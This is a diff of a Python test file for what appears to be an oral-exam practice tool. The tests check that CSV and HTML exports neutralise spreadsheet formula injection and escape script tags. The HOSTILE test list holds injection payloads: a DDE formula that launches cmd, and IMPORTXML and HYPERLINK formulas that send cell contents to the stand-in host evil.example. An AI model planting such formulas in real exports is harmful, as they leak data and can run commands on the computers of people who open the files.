@@ -27,9 +27,9 @@ HOSTILE = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
-    "   =IMPORTXML(CONCAT(\"http://evil.example/\", A2), \"//a\")",
+    '   =IMPORTXML(CONCAT("http://evil.example/", A2), "//a")',
     "\u00a0=1+1",  # a no-break space first
-    "\uff1dHYPERLINK(\"http://evil.example\")",  # a full-width equals sign
+    '\uff1dHYPERLINK("http://evil.example")',  # a full-width equals sign
 ]
 HARMLESS = ["Anne-Marie Dupont", "O'Neil", "Zoé", "Jean-Luc =Picard", "12 Rue des Lilas"]
 TEXT_COLUMNS = ("cohort", "candidate", "scenario_id", "started_at", "review_status", "criterion", "status")
@@ -80,7 +80,9 @@ def test_the_html_summary_escapes_names() -> None:
     assert "<script>" not in page and "&lt;script&gt;" in page
 
 
-def test_oralblanc_results_csv_neutralises_names(cli_database: str, sample_scenario: Scenario, tmp_path) -> None:
+def test_oralblanc_results_csv_neutralises_names(
+    cli_database: str, sample_scenario: Scenario, tmp_path
+) -> None:
     name = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
     engine = make_engine(cli_database)
     try:
@@ -92,8 +94,11 @@ def test_oralblanc_results_csv_neutralises_names(cli_database: str, sample_scena
         session = repo.start_session(user, sample_scenario, "fr")
         repo.add_turn(session, Turn(speaker="candidate", text="Quels sont vos objectifs ?"))
         repo.finish_session(session)
-        repo.save_scorecard(session, {"criteria": [{"code": CR1, "level": 2, "status": "scored"}],
-                                      "overall": {"score_20": 13.3}}, "test")
+        repo.save_scorecard(
+            session,
+            {"criteria": [{"code": CR1, "level": 2, "status": "scored"}], "overall": {"score_20": 13.3}},
+            "test",
+        )
     finally:
         engine.dispose()
     html = tmp_path / "promo.html"
